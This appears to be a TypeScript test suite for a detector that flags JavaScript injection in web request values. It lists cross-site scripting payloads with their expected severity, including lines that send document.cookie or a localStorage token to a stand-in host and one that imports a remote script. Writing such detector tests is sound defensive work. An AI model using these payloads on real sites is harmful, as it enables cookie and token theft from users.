import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { familyFindings } from '../../fixtures/family-findings.ts';
import { inspectRequest } from '../../inspect-request.ts';

const signsIn = (text: string) => familyFindings(['javascript'], text);
const strongest = (text: string): string =>
  ['clear', 'likely', 'weak'].find((strength) =>
    signsIn(text).some((finding) => finding.startsWith(strength)),
  ) ?? 'none';

/** Sentences around a piece of code, so that it stands in a text. */
const inProse = (code: string): string =>
  `I have been trying this for a day now and do not see what is wrong with ${code} in my page.`;

describe('JavaScript in a value', () => {
  for (const [expected, text] of [
    ['clear', "'-alert(1)-'"],
    ['clear', '"-alert(1)-"'],
    ['clear', "\\';alert(1)//"],
    ['clear', "x');fetch('//h.test/'+document.cookie)//"],
    ['clear', '}};eval(name)//'],
    ['likely', `\${alert(1)}`],
    ['likely', "';location='//h.test';'"],
    ['clear', 'javascript:/*x*/alert(1)'],
    ['likely', 'javascript:menu()'],
    ['none', 'javascript:;'],
    ['clear', "this['docu'+'ment']['coo'+'kie'](1)"],
    ['clear', 'location="javascript:run()"'],
    ['clear', "fetch('//h.test/'+localStorage.token)"],
    ['clear', '{onerror=eval}throw "=run()"'],
    ['clear', "new Image().src='//h.test/?'+document.cookie"],
    ['likely', "Function('run()')()"],
    ['likely', "setTimeout('run()',3)"],
    ['likely', "import('//h.test/a.js')"],
    ['likely', 'valueOf=alert;window+1'],
    ['clear', "$=~[];$={_:++$,__:(![]+'')[$],___:++$};$.__=($.___=$+'')[$._];"],
    ['likely', 'alert(document.domain)'],
    ['likely', "eval(atob('cnVuKCk='))"],
    ['weak', 'alert(1)'],
    ['weak', 'location=Paris'],
    ['none', '1alert(1)'],
    ['none', "it's here; alert the others"],
    ['weak', "console.log('a'); alert('b')"],
    ['weak', inProse("window['al'+'ert'](1)")],
    ['weak', inProse("x = 'a'; alert('b')")],
    ['clear', `';alert(document.cookie)//${inProse('this')}`],
    [
      'weak',
      `const a = 'x';\nlet b = "y";\nvar c = a;\nalert(document.cookie + a['constructor']('x')());\n`,
    ],
    ['none', '<a href="javascript:void(0)" class="button">x</a>'],
    ['none', '{"__proto__":'],
  ] as const) {
    it(`is ${expected}: ${text.slice(0, 50)}`, () => assert.equal(strongest(text), expected));
  }

  it('is not looked for in uploaded files', () => {
    assert.deepEqual(familyFindings(['javascript'], "'-alert(1)-'", { place: 'file' }), []);
  });

  it('stays found with spaces, comments and encodings that servers undo', () => {
    const gap = fc.constantFrom('', ' ', '/**/', '\n', '/*"*/');
    fc.assert(
      fc.property(gap, gap, fc.nat(2), fc.constantFrom("'", '"'), (one, other, times, quote) => {
        let text = `x${quote};${one}prompt${other}(1)//`;
        for (let round = 0; round < times; round += 1) text = encodeURIComponent(text);
        assert.equal(strongest(text), 'clear', text);
      }),
    );
  });

  it('is not seen in words with quotes', () => {
    const word = fc.constantFrom(
      'alert',
      'it',
      "dog's",
      '"top"',
      'prompt',
      '(self)',
      'eval',
      '&',
      '-',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), (words) => {
        assert.ok(!['clear', 'likely'].includes(strongest(words.join(' '))), words.join(' '));
      }),
    );
  });

  it('costs a bounded number of steps on any text', () => {
    for (const piece of ["'", '"-', '(', '/*', '`${', '[/', 'a.', '+[]', "';alert(1)//", 'top[']) {
      const text = `alert(window[${piece.repeat(20_000 / piece.length)}`;
      const value = { place: 'query', name: 'q', text, encoding: 'none' } as const;
      const request = { method: 'GET', version: 'HTTP/1.1', values: [value], gaps: [] };
      assert.ok(inspectRequest(request).steps < 30 * text.length, piece);
    }
  });
});
